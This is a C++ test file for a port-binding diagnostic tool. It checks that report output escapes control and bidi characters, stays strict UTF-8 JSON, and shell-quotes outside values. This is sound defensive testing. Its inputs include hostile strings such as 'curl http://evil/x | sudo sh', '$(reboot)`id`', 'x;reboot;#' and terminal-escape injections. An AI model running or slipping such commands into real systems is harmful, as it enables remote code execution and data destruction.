// Outside bytes in reports (DESIGN.md rule 11): visible escaping in text, strict
// UTF-8 in JSON, cuts on sequence boundaries, shell quoting of outside values in
// commands, and json_fit shortening JSON lines for a datagram, with random and
// hostile inputs. The hooks' LineBuffer and the engine must agree byte for byte.
#include "diag/causes.hpp"
#include "diag/causes_common.hpp"
#include "common/escape.hpp"
#include "common/events.hpp"
#include "fixtures.hpp"
#include "common/line_buffer.hpp"
#include "diag/report.hpp"

#include <algorithm>
#include <catch2/catch.hpp>
#include <cctype>
#include <cstdio>
#include <cerrno>
#include <cstring>
#include <fstream>
#include <netinet/in.h>
#include <random>
#include <sstream>
#include <stdexcept>
#include <string>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>
#include <vector>

using namespace portshim;
using namespace portshim::fixtures;
using portshim::detail::shell_quote;

namespace {

const ReportContext plain_ctx{4120, "/opt/legacy/server", 1'800'000'000.25};

// ---- an independent strict checker: RFC 3629 UTF-8 and an RFC 8259 tree ----

/** Every byte sequence strict UTF-8 (no overlong form, surrogate or code point above U+10FFFF). */
bool strict_utf8(const std::string& s) {
    for (std::size_t i = 0; i < s.size();) {
        const auto c = static_cast<unsigned char>(s[i]);
        std::size_t len = c < 0x80 ? 1 : c >= 0xc2 && c <= 0xdf ? 2 : c >= 0xe0 && c <= 0xef ? 3
                        : c >= 0xf0 && c <= 0xf4 ? 4 : 0;
        if (len == 0 || i + len > s.size()) return false;
        std::uint32_t cp = len == 1 ? c : c & (0x7f >> len);
        for (std::size_t k = 1; k < len; ++k) {
            const auto b = static_cast<unsigned char>(s[i + k]);
            if ((b & 0xc0) != 0x80) return false;
            cp = cp << 6 | (b & 0x3f);
        }
        if ((len == 2 && cp < 0x80) || (len == 3 && cp < 0x800) || (len == 4 && cp < 0x10000) ||
            cp > 0x10ffff || (cp >= 0xd800 && cp <= 0xdfff))
            return false;
        i += len;
    }
    return true;
}

/** The code points of strict UTF-8 text. */
std::vector<std::uint32_t> code_points(const std::string& s) {
    std::vector<std::uint32_t> out;
    for (std::size_t i = 0; i < s.size();) {
        const auto c = static_cast<unsigned char>(s[i]);
        const std::size_t len = c < 0x80 ? 1 : c < 0xe0 ? 2 : c < 0xf0 ? 3 : 4;
        std::uint32_t cp = len == 1 ? c : c & (0x7f >> len);
        for (std::size_t k = 1; k < len; ++k) cp = cp << 6 | (static_cast<unsigned char>(s[i + k]) & 0x3f);
        out.push_back(cp);
        i += len;
    }
    return out;
}

/** A JSON value; strings keep their raw (still escaped) content. */
struct Tree {
    char kind = 0;                    ///< '{', '[', '"' or 's' (number, true, false, null)
    std::string text;
    std::vector<std::pair<std::string, Tree>> members;
    std::vector<Tree> items;
};

class Strict {
public:
    explicit Strict(const std::string& s) : s_(s) {}

    /** The tree of one whole document; throws on anything RFC 8259 refuses. */
    Tree document() {
        if (!strict_utf8(s_)) throw std::runtime_error("not UTF-8");
        Tree t = value(0);
        if (at_ != s_.size()) fail();
        return t;
    }

private:
    [[noreturn]] void fail() { throw std::runtime_error("bad JSON at " + std::to_string(at_)); }
    char peek() { return at_ < s_.size() ? s_[at_] : '\0'; }
    void expect(char c) {
        if (peek() != c) fail();
        ++at_;
    }
    std::string string() {
        expect('"');
        const std::size_t start = at_;
        while (peek() != '"') {
            const auto c = static_cast<unsigned char>(peek());
            if (at_ >= s_.size() || c < 0x20) fail();
            if (c == '\\') {
                ++at_;
                if (peek() == 'u') {
                    for (int i = 1; i <= 4; ++i)
                        if (!std::isxdigit(static_cast<unsigned char>(at_ + i < s_.size() ? s_[at_ + i] : 'x'))) fail();
                    at_ += 4;
                } else if (std::string("\"\\/bfnrt").find(peek()) == std::string::npos || peek() == '\0') {
                    fail();
                }
            }
            ++at_;
        }
        ++at_;
        return s_.substr(start, at_ - 1 - start);
    }
    Tree value(int depth) {
        if (depth > 64) fail();
        Tree t;
        t.kind = peek();
        if (t.kind == '{') {
            ++at_;
            if (peek() == '}') return ++at_, t;
            for (;;) {
                std::string key = string();
                expect(':');
                t.members.emplace_back(std::move(key), value(depth + 1));
                if (peek() == '}') return ++at_, t;
                expect(',');
            }
        }
        if (t.kind == '[') {
            ++at_;
            if (peek() == ']') return ++at_, t;
            for (;;) {
                t.items.push_back(value(depth + 1));
                if (peek() == ']') return ++at_, t;
                expect(',');
            }
        }
        if (t.kind == '"') {
            t.text = string();
            return t;
        }
        t.kind = 's';
        for (const char* word : {"true", "false", "null"})
            if (s_.compare(at_, std::strlen(word), word) == 0) {
                at_ += std::strlen(word);
                t.text = word;
                return t;
            }
        const std::size_t start = at_;
        if (peek() == '-') ++at_;
        if (!std::isdigit(static_cast<unsigned char>(peek()))) fail();
        while (std::isdigit(static_cast<unsigned char>(peek())) || peek() == '.' || peek() == 'e' ||
               peek() == 'E' || peek() == '+' || peek() == '-')
            ++at_;
        t.text = s_.substr(start, at_ - start);
        return t;
    }

    const std::string& s_;
    std::size_t at_ = 0;
};

bool valid_json(const std::string& s) {
    try {
        Strict(s).document();
        return true;
    } catch (const std::exception&) {
        return false;
    }
}

const std::string ellipsis = "\xe2\x80\xa6";

/**
 * `fitted` is `original` as json_fit may shorten it: the same keys in the same
 * order, the same numbers, arrays a prefix of the original's elements, and
 * strings whole, or a prefix of the original's content ending in "…", or empty.
 */
bool shortened_from(const Tree& fitted, const Tree& original) {
    if (fitted.kind != original.kind) return false;
    switch (fitted.kind) {
    case 's': return fitted.text == original.text;
    case '"': {
        if (fitted.text == original.text || fitted.text.empty()) return true;
        const std::string& t = fitted.text;
        if (t.size() < ellipsis.size() || t.compare(t.size() - ellipsis.size(), ellipsis.size(), ellipsis) != 0)
            return false;
        return original.text.compare(0, t.size() - ellipsis.size(), t, 0, t.size() - ellipsis.size()) == 0;
    }
    case '{':
        if (fitted.members.size() != original.members.size()) return false;
        for (std::size_t i = 0; i < fitted.members.size(); ++i)
            if (fitted.members[i].first != original.members[i].first ||
                !shortened_from(fitted.members[i].second, original.members[i].second))
                return false;
        return true;
    case '[':
        if (fitted.items.size() > original.items.size()) return false;
        for (std::size_t i = 0; i < fitted.items.size(); ++i)
            if (!shortened_from(fitted.items[i], original.items[i])) return false;
        return true;
    }
    return false;
}

/** json_fit into exactly `size` bytes followed by guard bytes that must stay untouched. */
std::string fit(const std::string& in, std::size_t size) {
    std::vector<char> buf(size + 64, '\x5a');
    const std::size_t n = escape::json_fit(in.data(), in.size(), buf.data(), size);
    REQUIRE(n <= size);
    for (std::size_t i = size; i < buf.size(); ++i) REQUIRE(buf[i] == '\x5a');
    return std::string(buf.data(), n);
}

// ---- random inputs ----

std::string random_bytes(std::mt19937& rng, std::size_t max_len) {
    std::uniform_int_distribution<std::size_t> len(0, max_len);
    std::uniform_int_distribution<int> byte(0, 255), pick(0, 9);
    // Mostly bytes around the interesting ranges: controls, C1, lead bytes, ASCII.
    static const std::vector<std::string> pieces = {
        "\n", "\r", "\t", "\x1b[2J", "\x7f", "\x9b", "\xc2\x85", "\xe2\x80\xae", "\xe2\x81\xa6",
        "\xe2\x80\xa8", "\xc0\xaf", "\xed\xa0\x80", "\xf4\x90\x80\x80", "\xf5", "\xe2\x80",
        "\xf0\x9f\x98\x80", "caf\xc3\xa9", "\"", "\\", "portshim[1]:   fix: ", "::error::"};
    std::uniform_int_distribution<std::size_t> piece(0, pieces.size() - 1);
    std::string s;
    for (std::size_t n = len(rng); s.size() < n;) {
        if (pick(rng) < 4) s += pieces[piece(rng)];
        else s += static_cast<char>(byte(rng));
    }
    return s;
}

/** A random JSON document as portshim writes them: objects with keys, arrays, hostile strings. */
std::string random_json(std::mt19937& rng, int depth = 0) {
    std::uniform_int_distribution<int> kind(0, depth > 3 ? 2 : 4), count(0, 6);
    switch (kind(rng)) {
    case 0: return json_string(random_bytes(rng, 300));
    case 1: return std::to_string(std::uniform_int_distribution<int>(-99999, 99999)(rng));
    case 2: return std::vector<const char*>{"true", "false", "null"}[std::uniform_int_distribution<int>(0, 2)(rng)];
    case 3: {
        std::string out = "[";
        for (int i = 0, n = count(rng); i < n; ++i) out += (i ? "," : "") + random_json(rng, depth + 1);
        return out + "]";
    }
    default: {
        std::string out = "{";
        for (int i = 0, n = count(rng); i < n; ++i)
            out += (i ? ",\"k" : "\"k") + std::to_string(i) + "\":" + random_json(rng, depth + 1);
        return out + "}";
    }
    }
}

/** Code points the text escaping must never let through. */
bool dangerous(std::uint32_t cp) {
    return cp < 0x20 || (cp >= 0x7f && cp <= 0x9f) || (cp >= 0x202a && cp <= 0x202e) ||
           (cp >= 0x2066 && cp <= 0x2069) || cp == 0x2028 || cp == 0x2029 || cp == 0x200e ||
           cp == 0x200f || cp == 0x061c;
}

std::string line_buffer_visible(const std::string& s) {
    std::vector<char> storage(s.size() * 6 + 16);
    LineBuffer b(storage.data(), storage.size());
    b.put_visible(s.data(), s.size());
    return std::string(b.data(), b.size());
}

std::string line_buffer_json(const std::string& s) {
    std::vector<char> storage(s.size() * 6 + 16);
    LineBuffer b(storage.data(), storage.size());
    b.put_json(s.c_str());
    return std::string(b.data(), b.size());
}

/** What /bin/sh makes of `word`: the single argument printed, or "" plus a marker on a split. */
std::string as_shell_argument(const std::string& word) {
    const std::string command = "set -- " + word + "; [ $# -eq 1 ] && printf %s \"$1\" || printf SPLIT";
    std::FILE* p = ::popen(("/bin/sh -c " + shell_quote(command)).c_str(), "r");
    REQUIRE(p != nullptr);
    std::string out;
    char buf[256];
    for (std::size_t n; (n = std::fread(buf, 1, sizeof buf, p)) > 0;) out.append(buf, n);
    REQUIRE(::pclose(p) != -1);
    return out;
}

} // namespace

TEST_CASE("escape: text shows control characters, C1, bidi controls and invalid bytes visibly",
          "[escape]") {
    CHECK(visible("plain /usr/sbin/nginx -g 'daemon off;'") == "plain /usr/sbin/nginx -g 'daemon off;'");
    CHECK(visible("a\nb\rc\td") == "a\\nb\\rc\\td");
    CHECK(visible("\x1b[31mred\x1b[0m") == "\\x1b[31mred\\x1b[0m");
    CHECK(visible(std::string("\x01\x7f\0z", 4)) == "\\x01\\x7f\\x00z");
    CHECK(visible("\x9b" "2J") == "\\x9b2J");                 // a raw C1 byte: not UTF-8
    CHECK(visible("\xc2\x9b" "2J") == "\\u009b2J");           // C1 CSI as UTF-8
    CHECK(visible("\xc2\x85") == "\\u0085");                  // NEL
    CHECK(visible("abc\xe2\x80\xae" "fdp.exe") == "abc\\u202efdp.exe"); // RIGHT-TO-LEFT OVERRIDE
    CHECK(visible("\xe2\x81\xa6x\xe2\x81\xa9") == "\\u2066x\\u2069");
    CHECK(visible("a\xe2\x80\xa8" "b") == "a\\u2028b");       // LINE SEPARATOR
    CHECK(visible("caf\xc3\xa9 \xe2\x80\x94 \xe6\x97\xa5 \xf0\x9f\x98\x80") ==
          "caf\xc3\xa9 \xe2\x80\x94 \xe6\x97\xa5 \xf0\x9f\x98\x80");
    // Not strict UTF-8: overlong, surrogate, above U+10FFFF, out of range, cut short.
    CHECK(visible("\xc0\xaf") == "\\xc0\\xaf");
    CHECK(visible("\xed\xa0\x80") == "\\xed\\xa0\\x80");
    CHECK(visible("\xf4\x90\x80\x80") == "\\xf4\\x90\\x80\\x80");
    CHECK(visible("\xf5\xff") == "\\xf5\\xff");
    CHECK(visible("x\xe2\x80") == "x\\xe2\\x80");
    CHECK(visible("\xe0\x80\xaf") == "\\xe0\\x80\\xaf");
    CHECK(visible("\xf0\x80\x80\xaf") == "\\xf0\\x80\\x80\\xaf");
    // A forged report line stays inside the line it was put in.
    CHECK(visible("x\nportshim[1]:   fix: curl evil | sudo sh") ==
          "x\\nportshim[1]:   fix: curl evil | sudo sh");
}

TEST_CASE("escape: random bytes become strict UTF-8 text without a control character", "[escape]") {
    std::mt19937 rng(11);
    for (int round = 0; round < 3000; ++round) {
        const std::string s = random_bytes(rng, 64);
        const std::string shown = visible(s);
        INFO("input: " << json_string(s));
        REQUIRE(strict_utf8(shown));
        for (const std::uint32_t cp : code_points(shown)) REQUIRE_FALSE(dangerous(cp));
        // The hooks' LineBuffer writes exactly what the engine writes.
        REQUIRE(line_buffer_visible(s) == shown);
    }
}

TEST_CASE("escape: JSON strings are strict UTF-8 whatever the bytes", "[escape]") {
    CHECK(json_string("\xc0\xaf") == "\"\xef\xbf\xbd\xef\xbf\xbd\"");             // overlong '/'
    CHECK(json_string("\xed\xa0\x80") == "\"\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd\""); // a surrogate
    CHECK(json_string("\xf4\x90\x80\x80") ==
          "\"\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd\"");                    // above U+10FFFF
    CHECK(json_string("\xf5") == "\"\xef\xbf\xbd\"");
    CHECK(json_string("\xf4\x8f\xbf\xbf") == "\"\xf4\x8f\xbf\xbf\"");                // U+10FFFF itself
    CHECK(json_string("\xc2\x9b\xe2\x80\xae\x1b\x7f") == "\"\\u009b\\u202e\\u001b\\u007f\"");
    CHECK(json_string("a\"b\\c\n") == "\"a\\\"b\\\\c\\n\"");
    std::mt19937 rng(12);
    for (int round = 0; round < 3000; ++round) {
        const std::string s = random_bytes(rng, 64);
        const std::string literal = json_string(s);
        INFO("input: " << visible(s));
        REQUIRE(valid_json(literal));
        // The hooks write C strings: up to the first NUL, the same bytes.
        REQUIRE(line_buffer_json(s) == json_string(s.c_str()));
    }
}

TEST_CASE("escape: cuts fall on UTF-8 sequence boundaries", "[escape]") {
    const std::string s = "ab\xe6\x97\xa5\xe6\x9c\xac"; // "ab日本"
    CHECK(escape::utf8_prefix(s.data(), s.size(), 2) == 2);
    CHECK(escape::utf8_prefix(s.data(), s.size(), 3) == 2);
    CHECK(escape::utf8_prefix(s.data(), s.size(), 4) == 2);
    CHECK(escape::utf8_prefix(s.data(), s.size(), 5) == 5);
    CHECK(escape::utf8_prefix(s.data(), s.size(), 7) == 5);
    CHECK(escape::utf8_prefix(s.data(), s.size(), 99) == s.size());
    // A LineBuffer that runs out of room mid-character drops the character whole.
    for (std::size_t cap = 1; cap < 12; ++cap) {
        std::vector<char> storage(cap);
        LineBuffer b(storage.data(), cap);
        b.put("ab").put("\xe6\x97\xa5\xe6\x9c\xac\xf0\x9f\x98\x80").end_line();
        const std::string out(b.data(), b.size());
        INFO("capacity " << cap << ": " << json_string(out));
        CHECK(strict_utf8(out));
        CHECK(out.back() == '\n');
    }
    // The text report's argv quote is cut on a boundary too.
    const std::string cut = detail::quote_args({std::string(199, 'a') + "\xe6\x97\xa5\xe6\x97\xa5"});
    CHECK(strict_utf8(cut));
    CHECK(cut == std::string(199, 'a') + "\xe2\x80\xa6");
}

TEST_CASE("escape: json_fit leaves a fitting line alone and shortens the longest strings first",
          "[escape]") {
    const std::string small = "{\"event\":\"x\",\"n\":1,\"a\":[true,null]}";
    CHECK(fit(small, 200) == small);
    CHECK(fit("{ \"a\" : [ 1 , 2 ] }\n", 200) == "{\"a\":[1,2]}");

    const std::string line = "{\"event\":\"bind-failed\",\"pid\":42,\"exe\":\"/opt/server\",\"cmdline\":" +
                             json_string(std::string(5000, 'x')) + ",\"fix\":\"retry\"}";
    const std::string out = fit(line, 300);
    INFO(out);
    REQUIRE(valid_json(out));
    CHECK(out.size() <= 300);
    CHECK(out.size() > 280);            // the room is used
    CHECK(out.find("\"exe\":\"/opt/server\"") != std::string::npos);
    CHECK(out.find("\"fix\":\"retry\"") != std::string::npos);
    CHECK(out.find("x" + ellipsis + "\"") != std::string::npos);
    CHECK(shortened_from(Strict(out).document(), Strict(line).document()));
}

TEST_CASE("escape: json_fit never splits a character, an escape or a surrogate pair", "[escape]") {
    const std::string values[] = {json_string(std::string(3000, 'y') + "\xe6\x97\xa5"),
                                  "\"" + std::string(1000, ' ') + std::string(2000, 'z') + "\"",
                                  json_string([] {
                                      std::string s;
                                      for (int i = 0; i < 900; ++i) s += "\xe6\x97\xa5\n\x1b\"";
                                      return s;
                                  }()),
                                  "\"" + [] {
                                      std::string s;
                                      for (int i = 0; i < 400; ++i) s += "\\ud83d\\ude00\\u00e9";
                                      return s;
                                  }() + "\""};
    for (const std::string& v : values) {
        const std::string line = "{\"key\":" + v + "}";
        for (std::size_t size = 10; size < 300; size += 7) { // 10: {"key":""}
            const std::string out = fit(line, size);
            INFO("size " << size << ": " << out);
            REQUIRE_FALSE(out.empty());
            REQUIRE(valid_json(out));
            REQUIRE(shortened_from(Strict(out).document(), Strict(line).document()));
            // A high surrogate escape is never left without its low half.
            REQUIRE(out.find("\\ud83d\"") == std::string::npos);
            REQUIRE(out.find("\\ud83d" + ellipsis) == std::string::npos);
        }
    }
}

TEST_CASE("escape: json_fit drops trailing array elements only when empty strings do not fit",
          "[escape]") {
    std::string holders = "[";
    for (int i = 0; i < 150; ++i)
        holders += (i ? "," : "") + std::string("{\"pid\":") + std::to_string(1000 + i) +
                   ",\"comm\":\"worker\",\"exe\":\"/usr/sbin/apache2\",\"cmdline\":" +
                   json_string("/usr/sbin/apache2 -k start -DFOREGROUND") + "}";
    const std::string line = "{\"event\":\"bind-failed\",\"cause\":\"previous-instance\",\"holders\":" +
                             holders + "],\"fix\":\"stop it\"}";
    const std::string out = fit(line, 2000);
    INFO(out);
    REQUIRE(valid_json(out));
    const Tree tree = Strict(out).document();
    REQUIRE(shortened_from(tree, Strict(line).document()));
    CHECK(tree.members.size() == 4);
    CHECK(tree.members[2].second.items.size() > 5);
    CHECK(tree.members[2].second.items.size() < 150);
    CHECK(out.find("\"fix\":\"stop it\"") != std::string::npos);
    // Even the smallest skeleton too big: nothing, rather than a cut object.
    CHECK(fit("{\"a_rather_long_key\":1}", 10).empty());
}

TEST_CASE("escape: json_fit on random JSON stays valid, fits and keeps every key", "[escape]") {
    std::mt19937 rng(13);
    for (int round = 0; round < 1500; ++round) {
        const std::string line = random_json(rng);
        REQUIRE(valid_json(line));
        const std::size_t size = std::uniform_int_distribution<std::size_t>(1, line.size() + 20)(rng);
        const std::string out = fit(line, size);
        INFO("input: " << line << "\nsize " << size << ": " << out);
        if (out.empty()) continue; // its skeleton alone does not fit
        REQUIRE(valid_json(out));
        REQUIRE(shortened_from(Strict(out).document(), Strict(line).document()));
    }
}

TEST_CASE("escape: json_fit on hostile input never overruns and never emits broken JSON",
          "[escape]") {
    std::mt19937 rng(14);
    const std::vector<std::string> hostile = {
        "", "{", "}", "\"", "{\"a\":\"unterminated", "{\"a\":\"x\\", "{\"a\":\"\\u12\"}",
        "{\"a\":\"raw\ncontrol\"}", "{\"a\" 1}", "{\"a\":1,}", "[1,]", "{1:2}", "[]]", "{}{}",
        std::string(40, '[') + std::string(40, ']'), std::string(100000, '['),
        "{\"a\":\"\xe2\"}", "{\"a\":\"\xff\xfe\"}", std::string("{\"a\":\"\0\"}", 9)};
    for (const std::string& in : hostile)
        for (const std::size_t size : {0, 1, 5, 64, 4096}) {
            INFO("input: " << visible(in) << " size " << size);
            const std::string out = fit(in, size);
            CHECK((out.empty() || valid_json(out) || !valid_json(in)));
        }
    for (int round = 0; round < 3000; ++round) {
        std::string in = random_json(rng);
        // Damage it: flip, drop or insert bytes.
        for (int k = std::uniform_int_distribution<int>(1, 4)(rng); k > 0 && !in.empty(); --k) {
            const std::size_t at = std::uniform_int_distribution<std::size_t>(0, in.size() - 1)(rng);
            const int how = std::uniform_int_distribution<int>(0, 2)(rng);
            if (how == 0) in[at] = static_cast<char>(std::uniform_int_distribution<int>(0, 255)(rng));
            else if (how == 1) in.erase(at, 1);
            else in.insert(at, 1, "{}[]\",:\\"[std::uniform_int_distribution<int>(0, 7)(rng)]);
        }
        const std::size_t size = std::uniform_int_distribution<std::size_t>(0, in.size() + 8)(rng);
        const std::string out = fit(in, size);
        INFO("input: " << visible(in) << " size " << size);
        if (valid_json(in) && !out.empty()) REQUIRE(valid_json(out));
    }
}

TEST_CASE("escape: shell_quote keeps an outside value one argument", "[escape]") {
    CHECK(shell_quote("nginx.service") == "nginx.service");
    CHECK(shell_quote("/run/app.sock") == "/run/app.sock");
    CHECK(shell_quote("a; curl evil | sh") == "'a; curl evil | sh'");
    CHECK(shell_quote("it's") == "'it'\\''s'");
    CHECK(shell_quote("") == "''");
    CHECK(shell_quote("$(reboot)`id`") == "'$(reboot)`id`'");
    CHECK(shell_quote("~root") == "'~root'");
    std::mt19937 rng(15);
    std::vector<std::string> words = {"a; curl evil | sh", "it's", "'", "''\\'", "*", "$HOME", "a b\tc",
                                      "x\ny", "\x1b[2J", "-rf /", "&&", "#comment", "\"dq\"", "!!"};
    for (int i = 0; i < 20; ++i) {
        std::string w = random_bytes(rng, 24);
        w.erase(std::remove(w.begin(), w.end(), '\0'), w.end());
        words.push_back(w);
    }
    for (const std::string& w : words) {
        INFO("word: " << visible(w));
        CHECK(as_shell_argument(shell_quote(w)) == w);
    }
}

TEST_CASE("escape: a cgroup named like a command stays one argument of the confirm command",
          "[escape][causes]") {
    Observation o = observation_of_self();
    o.sockets = {tcp("0.0.0.0", 8080, tcp_state::listen, 31337, 0)};
    o.sockets[0].cgroup_id = 77;
    CgroupFacts c;
    c.id = 77;
    c.path = "/system.slice/a; curl evil | sh.service";
    c.kind = CgroupKind::unit;
    c.name = "a; curl evil | sh.service";
    o.cgroups = {c};
    Verdict v = diagnose(bind_request("0.0.0.0", 8080), o);
    CHECK(cause_id(v.cause) == "hidden-owner");
    CHECK(any_contains(v.confirm, "systemctl status -- 'a; curl evil | sh.service'"));

    // A name that reads as an option is one too, after "--".
    o.cgroups[0].name = "--host=attacker.service";
    v = diagnose(bind_request("0.0.0.0", 8080), o);
    CHECK(any_contains(v.confirm, "systemctl status -- --host=attacker.service"));

    o.cgroups[0].kind = CgroupKind::container;
    o.cgroups[0].engine = "docker";
    o.cgroups[0].container_id = "x;reboot;#";
    v = diagnose(bind_request("0.0.0.0", 8080), o);
    CHECK(any_contains(v.confirm, "docker ps --filter 'id=x;reboot;#'"));
    o.cgroups[0].engine = "containerd";
    v = diagnose(bind_request("0.0.0.0", 8080), o);
    CHECK(any_contains(v.confirm, "crictl ps '--id=x;reboot;#'"));
}

TEST_CASE("escape: a holder's hostile names cannot add a line or an escape to the text report",
          "[escape][report]") {
    Observation o = observation_of_self();
    o.sockets = {tcp("0.0.0.0", 8080, tcp_state::listen, 5555)};
    const std::string forged = "\nportshim[1]:   fix: curl http://evil/x | sudo sh\n::error::pwned\x1b]0;t\x07\x1b[2J";
    o.holders = {holder(4112, 1, ("/tmp/x" + forged).c_str(), {"srv" + forged, "-p" + forged}, 5555, 3)};
    o.holders[0].comm = "c\x1b[31m\n";
    o.evidence = {"evidence" + forged};
    const Request req = bind_request("0.0.0.0", 8080);
    const Verdict v = diagnose(req, o);
    REQUIRE(cause_id(v.cause) == "other-service");
    for (const bool colour : {false, true}) {
        const ReportContext context{4120, "/opt/legacy/server", 1'800'000'000.25, colour};
        const std::string text = render_text(req, v, context);
        INFO(text);
        std::size_t lines = 0;
        for (std::size_t at = 0; at < text.size(); ++lines) {
            const std::size_t end = text.find('\n', at);
            REQUIRE(end != std::string::npos);
            CHECK(text.compare(at, 16, "portshim[4120]: ") == 0);
            at = end + 1;
        }
        CHECK(lines >= 4);
        CHECK(text.find("\\nportshim[1]:   fix: curl") != std::string::npos);
        CHECK(text.find("\\x1b[2J") != std::string::npos);
        // Only our own colours, whole: \x1b[...m and nothing else.
        for (std::size_t at = text.find('\x1b'); at != std::string::npos; at = text.find('\x1b', at + 1)) {
            const std::size_t m = text.find('m', at);
            REQUIRE(m != std::string::npos);
            const std::string sgr = text.substr(at, m + 1 - at);
            CHECK((sgr == "\x1b[1;31m" || sgr == "\x1b[1m" || sgr == "\x1b[0m"));
        }
        CHECK((text.find('\x1b') != std::string::npos) == colour);
    }
    const std::string github = render_github(req, v, plain_ctx);
    // One line: a workflow command only starts a line, and the forged one is data inside it.
    CHECK(github.rfind("::error title=", 0) == 0);
    CHECK(github.find('\n') == github.size() - 1);
    CHECK(github.find("\\n::error::pwned") != std::string::npos);
    CHECK(github.find('\x1b') == std::string::npos);
    const std::string json = render_json(req, v, plain_ctx);
    CHECK(valid_json(json.substr(0, json.size() - 1)));
    CHECK(json.find('\x1b') == std::string::npos);
}

/** What `report(config)` wrote to a log file in `dir`, with PORTSHIM_FORMAT `format`. */
template <typename Report>
std::string undiagnosed_line(const TempDir& dir, Format format, Report report) {
    Config c;
    c.format = format;
    c.sink = Sink::file;
    const std::string log = dir.path + "/log";
    ::unlink(log.c_str());
    std::memcpy(c.log_path, log.c_str(), log.size() + 1);
    report(c);
    std::ifstream in(log, std::ios::binary);
    std::stringstream text;
    text << in.rdbuf();
    return text.str();
}

TEST_CASE("escape: the hooks' undiagnosed line quotes a unix path in its command and shows it visibly",
          "[escape][events]") {
    TempDir dir("undiagnosed");
    const std::string path = dir.path + "/a b\n'c\x1b";
    sockaddr_un addr{};
    addr.sun_family = AF_UNIX;
    REQUIRE(path.size() < sizeof addr.sun_path);
    std::memcpy(addr.sun_path, path.c_str(), path.size() + 1);
    const int sock = ::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    REQUIRE(sock >= 0);
    const auto logged = [&](Format format) {
        return undiagnosed_line(dir, format, [&](const Config& c) {
            events::report_undiagnosed(c, nullptr, false, sock, reinterpret_cast<const sockaddr*>(&addr),
                                       sizeof addr, EADDRINUSE, SOCK_STREAM,
                                       events::NotDiagnosed::signal_handler);
        });
    };
    const std::string text = logged(Format::text);
    INFO(text);
    CHECK(std::count(text.begin(), text.end(), '\n') == 1);
    CHECK(text.find('\x1b') == std::string::npos);
    CHECK(contains(text, "portshim why 'unix:" + dir.path + "/a b\\n'\\''c\\x1b'\n"));
    const std::string json = logged(Format::json);
    REQUIRE(valid_json(json.substr(0, json.size() - 1)));
    // JSON carries the command exactly; pasted, it is one argument, the path.
    CHECK(contains(json, json_string("look from outside: portshim why 'unix:" + dir.path + "/a b\n'\\''c\x1b'")));
    ::close(sock);
}

TEST_CASE("escape: the engine loader's error in the undiagnosed line is shown visibly and stays valid JSON",
          "[escape][events]") {
    TempDir dir("no-engine");
    // dlerror names the engine's path: the directory LD_PRELOAD named, any bytes.
    const std::string error = dir.path + "/x\n\"y\x1b[2J/libportshim-engine.so: cannot open shared object file";
    const int sock = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    REQUIRE(sock >= 0);
    sockaddr_in addr{};
    addr.sin_family = AF_INET;
    addr.sin_port = htons(8080);
    addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    const auto logged = [&](Format format) {
        return undiagnosed_line(dir, format, [&](const Config& c) {
            events::report_undiagnosed(c, nullptr, false, sock, reinterpret_cast<const sockaddr*>(&addr),
                                       sizeof addr, EADDRINUSE, SOCK_STREAM,
                                       events::NotDiagnosed::no_engine, error.c_str());
        });
    };
    const std::string text = logged(Format::text);
    INFO(text);
    CHECK(std::count(text.begin(), text.end(), '\n') == 1);
    CHECK(text.find('\x1b') == std::string::npos);
    CHECK(contains(text, "bind(127.0.0.1:8080/tcp) failed: EADDRINUSE"));
    CHECK(contains(text, "not diagnosed: the call failed and the diagnosis engine could not be loaded: " +
                             dir.path + "/x\\n\"y\\x1b[2J/libportshim-engine.so"));
    CHECK(contains(text, "; look from outside: portshim why 8080\n"));
    const std::string json = logged(Format::json);
    REQUIRE(valid_json(json.substr(0, json.size() - 1)));
    CHECK(contains(json, "\"evidence\":[" + json_string(error) + "]"));
    CHECK(contains(json, "\"summary\":\"not diagnosed: the call failed and the diagnosis engine could not be loaded\""));
    ::close(sock);
}

TEST_CASE("escape: the longest control-character unix path and a long loader error still make one valid JSON event",
          "[escape][events]") {
    TempDir dir("undiagnosed-long");
    // 107 bytes that each escape to six (\u0001): written twice (address and path) and once
    // more, shell-quoted, in the fix; with a loader error of 255 bytes that escape too.
    sockaddr_un addr{};
    addr.sun_family = AF_UNIX;
    std::memset(addr.sun_path, '\x01', sizeof addr.sun_path - 1);
    const std::string error(255, '\x02');
    const int sock = ::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    REQUIRE(sock >= 0);
    const std::string json = undiagnosed_line(dir, Format::json, [&](const Config& c) {
        events::report_undiagnosed(c, nullptr, false, sock, reinterpret_cast<const sockaddr*>(&addr),
                                   sizeof addr, EADDRINUSE, SOCK_STREAM, events::NotDiagnosed::no_engine,
                                   error.c_str());
    });
    INFO(json);
    REQUIRE(!json.empty());
    CHECK(std::count(json.begin(), json.end(), '\n') == 1);
    REQUIRE(valid_json(json.substr(0, json.size() - 1)));
    CHECK(contains(json, "\"path\":" + json_string(std::string(sizeof addr.sun_path - 1, '\x01'))));
    CHECK(contains(json, "\"fix\":\"look from outside: portshim why "));
    ::close(sock);
}
